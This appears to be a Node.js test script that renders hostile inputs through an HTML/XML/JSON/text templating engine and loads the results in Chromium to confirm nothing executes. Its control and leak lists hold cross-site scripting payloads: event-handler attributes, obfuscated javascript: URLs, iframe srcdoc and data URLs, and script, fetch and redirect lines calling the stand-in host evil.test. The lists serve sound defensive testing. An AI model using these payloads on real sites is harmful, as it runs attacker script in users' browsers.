// Puts what attackers write into every place of HTML, XML, JSON and plain text, loads the results in Chromium, and sees
// nothing run; nor does it make any element or attribute that a harmless text does not make there.
//
//   node hostile_test.mjs RENDER_TABLE CHROMIUM

import { failuresOf, forms, inGroups, share, told } from './cases.mjs';
import { harmless, hostile } from './hostile.mjs';
import { htmlPlaces, others, refusedPlaces, refusedXmlPlaces, textPlaces, xmlPlaces } from './places.mjs';
import { startRenderer } from './renderer.mjs';
import { launch, openWatcher } from './watcher.mjs';

const [program, chromium] = process.argv.slice(2);
const pagesAtOnce = 2;
const placesAtOnce = 3;

// What a watcher that sees nothing would not see: each of these runs, in this way.
const controls = [
  ['<img src=x onerror="ran(1)">', 'ran(1)'],
  ['<script>ran(1)</script>', 'ran(1)'],
  ['<script>alert(1)</script>', 'ran(alert)'],
  ['<script>open("https://evil.test/")</script>', 'ran(open)'],
  ['<script src="https://evil.test/x.js"></script>', 'script from https://evil.test/x.js'],
  ['<script src="https://evil.test/x.js"></script>', 'ran(3)'],
  ['<script>import("https://evil.test/x.js")</script>', 'script from https://evil.test/x.js'],
  ['<script>fetch("https://evil.test/x")</script>', 'fetch from https://evil.test/x'],
  ['<link rel="stylesheet" href="https://evil.test/x.css">', 'stylesheet from https://evil.test/x.css'],
  ['<a href="javascript:ran(1)">a</a>', 'ran(1)'],
  ['<a target="_blank" href="java&Tab;script:ran(1)">a</a>', 'ran(1)'],
  ['<svg><a xlink:href="java&Tab;script:ran(1)"><text>a</text></a></svg>', 'ran(1)'],
  ['<form action="javascript:ran(1)"><button>a</button></form>', 'ran(1)'],
  ['<form><input type="submit" formaction="javascript:ran(1)"></form>', 'ran(1)'],
  ['<p onmouseover="ran(1)">a</p>', 'ran(1)'],
  ['<p onpointerenter="ran(1)">a</p>', 'ran(1)'],
  ['<p onclick="ran(1)">a</p>', 'ran(1)'],
  ['<input onfocus="ran(1)">', 'ran(1)'],
  ['<input onkeydown="ran(1)">', 'ran(1)'],
  ['<template shadowrootmode="open"><p onclick="ran(1)">a</p></template>', 'ran(1)'],
  ['<iframe src="javascript:parent.ran(1)"></iframe>', 'ran(1)'],
  ['<iframe srcdoc="<script>parent.ran(1)</script>"></iframe>', 'ran(1)'],
  ['<iframe src="data:text/html,<script>ran(1)</script>"></iframe>', 'ran(1)'],
  ['<object data="data:text/html,<script>ran(1)</script>"></object>', 'ran(1)'],
  ['<script>location = "https://evil.test/"</script>', 'ran(goes to https://evil.test/'],
  ['<meta http-equiv="refresh" content="0;url=https://evil.test/">', 'ran(goes to https://evil.test/'],
  ['<svg><animate onbegin="ran(1)" attributeName="x" dur="1s"/></svg>', 'ran(1)'],
];


async function casesOf(renderer, place, ending) {
  const one = async (x, isHarmless) => {
    const { output, error, message } = await renderer.render(place, others, { x, y: 'script:ran(1)' }, ending);
    if (error) throw new Error(`${place} with ${JSON.stringify(x)}: ${error} ${message}`);
    return { place, text: x, output, harmless: isHarmless };
  };
  return Promise.all([...harmless.map((x) => one(x, true)), ...hostile.map((x) => one(x, false))]);
}

// The places of one form of document, some of them to a document: loading one takes its time.
async function watchPlaces(watchers, renderer, places, ending) {
  const failures = [];
  await share(watchers, inGroups(places, placesAtOnce), async (watcher, group) => {
    const cases = (await Promise.all(group.map((place) => casesOf(renderer, place, ending)))).flat();
    failures.push(...(await failuresOf(watcher, cases, forms[ending])).map(told));
  });
  return failures;
}

async function watchTexts(watcher, renderer) {
  const failures = [];
  for (const { ending, contentType, template } of textPlaces) {
    const document = (await casesOf(renderer, template, ending)).map(({ output }) => output).join('\n');
    const { seen, elements } = await watcher.shows(document, contentType);
    const found = [...seen, ...elements.filter((name) => name !== 'pre' && name !== 'div')];
    if (found.length > 0 || elements.length > 2) failures.push(`${template}: ${contentType} shows ${[...found, ...elements]}`);
  }
  return failures;
}

async function blindSpots(watchers) {
  const missed = [];
  await share(watchers, controls, async (watcher, [control, expected]) => {
    const html = `<!doctype html><div>${control}</div><p>end`;
    await watcher.catches(html, expected).catch((error) => missed.push(`${control}: ${error.message}`));
  });
  return missed;
}

// What one place would make without escaping: looking by halves has to name it among others.
const leaks = ['<p>a<script>ran(1)</script></p>', '<p onclick="ran(1)">a</p>', '<p><a href="javascript:ran(1)">a</a></p>',
  '<p>a<!--</p>', '<p>a</div></p>', '<p><b>a</b></p>', '<p title="a">a</p>', '<p>a<script>location = "/b"</script></p>',
  '<p><textarea>a</p>', '<p><link rel="stylesheet" href="https://evil.test/x.css">a</p>'];

async function unnamed(watchers) {
  const wrong = [];
  const harmless = Array.from({ length: 9 }, (_, i) => ({ place: '<p>', text: `${i}`, output: '<p>a</p>', harmless: i === 0 }));
  await share(watchers, leaks, async (watcher, output) => {
    const leak = { place: '<p>', text: output, output, harmless: false };
    const failures = await failuresOf(watcher, [...harmless.slice(0, 5), leak, ...harmless.slice(5)], forms.html);
    const named = new Set(failures.map(({ text }) => text));
    if (named.size !== 1 || !named.has(output)) wrong.push(`instead of ${output} these were named: ${[...named]}`);
  });
  return wrong;
}

async function notRefused(renderer, places, ending) {
  const answers = await Promise.all(places.map((place) => renderer.render(place, others, { x: 'a' }, ending)));
  return places.filter((_, i) => !answers[i].error).map((place) => `this should be an error in ${ending}: ${place}`);
}

const renderer = startRenderer(program);
const browser = await launch(chromium);
const wrong = [];
try {
  const watchers = await Promise.all(Array.from({ length: pagesAtOnce }, () => openWatcher(browser)));
  wrong.push(...await blindSpots(watchers), ...await unnamed(watchers));
  wrong.push(...await notRefused(renderer, refusedPlaces, 'html'), ...await notRefused(renderer, refusedXmlPlaces, 'xml'));
  wrong.push(...await watchPlaces(watchers, renderer, htmlPlaces, 'html'));
  wrong.push(...await watchPlaces(watchers, renderer, xmlPlaces, 'xml'));
  wrong.push(...await watchTexts(watchers[0], renderer));
} finally {
  await browser.close();
  renderer.stop();
}

for (const line of wrong) console.log(line);
const places = htmlPlaces.length + xmlPlaces.length + textPlaces.length;
const refusedCount = refusedPlaces.length + refusedXmlPlaces.length;
console.log(`${places} places with ${hostile.length} hostile texts each, ${refusedCount} places refused, ` +
  `${controls.length} ways to run and ${leaks.length} leaks seen; ${wrong.length} mistakes`);
process.exitCode = wrong.length > 0 ? 1 : 0;
